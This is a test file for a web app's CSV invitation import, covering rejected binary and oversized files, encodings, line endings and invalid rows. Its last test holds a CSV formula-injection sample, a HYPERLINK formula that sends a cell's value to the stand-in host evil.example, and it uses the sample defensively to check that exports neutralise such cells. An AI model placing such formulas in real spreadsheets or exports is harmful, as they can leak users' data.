import { readFileSync } from "node:fs";
import { beforeAll, describe, expect, it } from "vitest";
import { importFileProblemMessage, importRowProblemText } from "../../app/domain/invitation-import-messages.ts";
import { type InvitationImportResult, importInvitations, previewInvitationImport } from "../../app/domain/invitation-import.server.ts";
import { MAX_IMPORT_BYTES, MAX_IMPORT_ROWS } from "../../app/domain/invitation-import.ts";
import { translator } from "../../app/i18n/index.ts";
import { fixedClock } from "../../app/utils/clock.server.ts";
import { toCsv } from "../../app/utils/csv.ts";
import { db } from "../../app/utils/db.server.ts";
import { createOrganisationWithMembers } from "../support/factories.ts";
import { inbox } from "../support/smtp.ts";

// Hostile and awkward invitation lists, end to end through the import an organiser runs: a file
// that cannot be read is refused as a whole with a message saying why, inviting nobody and writing
// nothing; a readable file is read row by row, each bad row named with its reason. The pure parser's
// own cases are in app/domain/invitation-import.test.ts.

const clock = fixedClock("2027-06-01T09:00:00Z");
const en = translator("en");
const encode = (text: string) => new TextEncoder().encode(text);
let organisationId: string;
let organiser: { id: string; isAdmin: boolean };
let run = 0;

beforeAll(async () => {
  const { organisation, people } = await createOrganisationWithMembers({ organiser: ["ORGANISER"] });
  organisationId = organisation.id;
  organiser = { id: people.organiser.id, isAdmin: false };
});

/** Addresses unique to one case, since the test SMTP server keeps every message of the file. */
const address = (name: string) => `${name}-${run}@example.org`;

const WINDOWS_1250: Record<string, number> = { Č: 0xc8, č: 0xe8, Š: 0x8a, š: 0x9a, Ž: 0x8e, ž: 0x9e };
const windows1250 = (text: string) => Uint8Array.from([...text].map((char) => WINDOWS_1250[char] ?? char.charCodeAt(0)));
const utf16le = (text: string) => Uint8Array.from([0xff, 0xfe, ...[...text].flatMap((char) => [char.charCodeAt(0) & 0xff, char.charCodeAt(0) >> 8])]);
const utf16be = (text: string) => Uint8Array.from([...text].flatMap((char) => [char.charCodeAt(0) >> 8, char.charCodeAt(0) & 0xff]));

function noise(length: number, from = 0, to = 255) {
  let state = 11;
  return Uint8Array.from({ length }, () => {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    return from + ((state >>> 24) % (to - from + 1));
  });
}

async function written() {
  return {
    invitations: await db.invitation.count({ where: { organisationId } }),
    memberships: await db.membership.count({ where: { organisationId } }),
    audit: await db.auditEvent.count({ where: { organisationId } }),
  };
}

function accepted(result: InvitationImportResult) {
  if (!result.ok) throw new Error(`file refused: ${importFileProblemMessage(en, "en", result.problem)}`);
  return result;
}

describe("a file that cannot be read", () => {
  const person = () => `Ana Novak;${address("ana")}`;
  const cases: Array<[string, () => Uint8Array, string]> = [
    ["random binary data", () => noise(4096), "This is not a CSV file. In Excel, choose Save As and a CSV file type."],
    ["a JPEG named .csv", () => readFileSync("tests/fixtures/hostile/images/exif-gps.jpg"), "This is not a CSV file. In Excel, choose Save As and a CSV file type."],
    ["an Excel workbook", () => Uint8Array.from([0x50, 0x4b, 0x03, 0x04, ...noise(100)]), "This is not a CSV file. In Excel, choose Save As and a CSV file type."],
    ["UTF-16 with a byte order mark (Excel's Unicode Text)", () => utf16le(`Name\tEmail\r\n${person().replace(";", "\t")}\r\n`), "This is not a CSV file. In Excel, choose Save As and a CSV file type."],
    ["UTF-16 big-endian without one", () => utf16be(`Name;Email\n${person()}\n`), "This is not a CSV file. In Excel, choose Save As and a CSV file type."],
    ["a NUL byte in a row", () => encode(`Name;Email\nAna\u0000Novak;${address("ana")}\n`), "This is not a CSV file. In Excel, choose Save As and a CSV file type."],
    ["binary data without NUL bytes", () => noise(4096, 0x80, 0xff), "The first row must name the columns. Missing: Name, Email."],
    ["an empty file", () => new Uint8Array(0), "The file is empty."],
    ["blank lines and separators only", () => encode("\r\n;;;\r\n  \r\n ; \n"), "The file is empty."],
    ["a header only", () => encode("Ime in priimek;E-pošta\r\n"), "The file names its columns but lists nobody."],
    ["no email column", () => encode(`Ime in priimek;Telefon\r\nAna Novak;01 234 56 78\r\n`), "The first row must name the columns. Missing: Email."],
    ["no column names at all", () => encode(`${person()}\n`), "The first row must name the columns. Missing: Name, Email."],
    ["a quote never closed", () => encode(`Name;Email\n${person()}\n"Bor Kos;${address("bor")}\nCene;${address("cene")}\n`), "A quotation mark opened in row 3 is never closed. Open the file in Excel and save it as CSV again."],
    ["one enormous line", () => encode(`Name;Email;${"x".repeat(MAX_IMPORT_BYTES - 20)}`), "The file names its columns but lists nobody."],
    ["more than 2 MB", () => encode(`Name;Email\n${person()}\n${" ".repeat(MAX_IMPORT_BYTES)}`), "The file is larger than 2 MB. Split it into smaller files."],
    [
      `${MAX_IMPORT_ROWS + 1} people`,
      () => encode(["Name;Email", ...Array.from({ length: MAX_IMPORT_ROWS + 1 }, (_, index) => `Person ${index};${address(`p${index}`)}`)].join("\n")),
      `The file has ${(MAX_IMPORT_ROWS + 1).toLocaleString("en-GB")} rows; at most 5,000 can be imported at once. Split it into smaller files.`,
    ],
  ];

  it.each(cases)("refuses %s, saying why, and invites nobody", async (_name, build, expected) => {
    run++;
    const file = build();
    const before = await written();
    for (const step of [previewInvitationImport, importInvitations]) {
      const result = await step({ actor: organiser, organisationId, file, locale: "en", clock });
      if (result.ok) throw new Error(`accepted: ${JSON.stringify(result.rows.slice(0, 2))}`);
      expect(importFileProblemMessage(en, "en", result.problem)).toBe(expected);
    }
    expect(await written()).toEqual(before);
    expect(inbox(address("ana"))).toHaveLength(0);
    expect(inbox(address("p0"))).toHaveLength(0);
  });
});

describe("a readable file with awkward or hostile content", () => {
  it("reads Windows-1250 (š č ž) and invites with the names intact", async () => {
    run++;
    const result = accepted(await importInvitations({ actor: organiser, organisationId, file: windows1250(`Ime in priimek;E-pošta\r\nČačič Šuštar Žužek;${address("cacic")}\r\n`), locale: "sl", clock }));
    expect(result).toMatchObject({ encoding: "windows-1250", counts: { invite: 1, errors: 0 } });
    expect(await db.invitation.findFirstOrThrow({ where: { email: address("cacic") }, select: { name: true } })).toEqual({ name: "Čačič Šuštar Žužek" });
    expect(inbox(address("cacic"))).toHaveLength(1);
  });

  it.each([
    ["CRLF", "\r\n"],
    ["LF", "\n"],
    ["CR", "\r"],
  ])("reads %s line endings as the same rows", async (_name, ending) => {
    run++;
    const file = encode(["Name,Email,Department", `Ana Novak,${address("ana")},Emergency`, `"Kos, Bor",${address("bor")},`, ""].join(ending));
    const result = accepted(await previewInvitationImport({ actor: organiser, organisationId, file, clock }));
    expect(result.rows.map((row) => [row.row, row.name, row.email, row.department?.name ?? null, row.problems])).toEqual([
      [2, "Ana Novak", address("ana"), "Emergency", []],
      [3, "Kos, Bor", address("bor"), null, []],
    ]);
  });

  it("names each bad row with its reason and invites only the good ones", async () => {
    run++;
    const before = await written();
    const file = encode(
      [
        "Name;Email",
        `Ana Novak;${address("ana")}`,
        "Bor Kos;bor(at)example.org",
        "Cene Zupan;cene@",
        `Ana Again;${address("ana").toUpperCase()}`,
        // A row written with the other separator reads as one long name without an address.
        `Dan Mali,${address("dan")}`,
        `${"N".repeat(1_500_000)};${address("long")}`,
      ].join("\n"),
    );
    const result = accepted(await importInvitations({ actor: organiser, organisationId, file, locale: "en", clock }));
    const shown = result.rows.map((row) => [row.row, row.problems.map((problem) => importRowProblemText(en, problem, row.duplicateOf)).join("; ")]);
    expect(shown).toEqual([
      [2, ""],
      [3, "the email address is not valid"],
      [4, "the email address is not valid"],
      [5, "the same email address is already in row 2"],
      [6, "the email address is missing"],
      [7, "the name is longer than 120 characters"],
    ]);
    // The enormous name is shortened for the preview, never stored.
    expect(result.rows[5].name).toHaveLength(256);
    expect(result.counts).toEqual({ invite: 1, addExisting: 0, skipped: 0, errors: 5 });
    expect((await written()).invitations).toBe(before.invitations + 1);
    expect(inbox(address("ana"))).toHaveLength(1);
    expect(inbox(address("dan"))).toHaveLength(0);
    expect(inbox(address("long"))).toHaveLength(0);
  });

  it("keeps names that spreadsheets would run as formulas as text, and neutralises them when exported", async () => {
    run++;
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 Novak", "-2 Kos", "@SUM(A1:A9) Zupan"];
    const file = encode(["Name;Email", ...names.map((name, index) => `"${name.replaceAll('"', '""')}";${address(`formula${index}`)}`)].join("\r\n"));
    const result = accepted(await importInvitations({ actor: organiser, organisationId, file, locale: "en", clock }));
    expect(result.counts.invite).toBe(names.length);
    const stored = await db.invitation.findMany({ where: { email: { in: names.map((_, index) => address(`formula${index}`)) } }, select: { name: true }, orderBy: { email: "asc" } });
    expect(stored.map((invitation) => invitation.name)).toEqual(names);
    // Every CSV the platform writes goes through csvField, which makes such a cell text.
    const lines = toCsv(names.map((name) => [name])).replace(/^\uFEFF/, "").trimEnd().split("\r\n");
    for (const line of lines) expect(line).toMatch(/^"?'[=+\-@]/);
  });
});
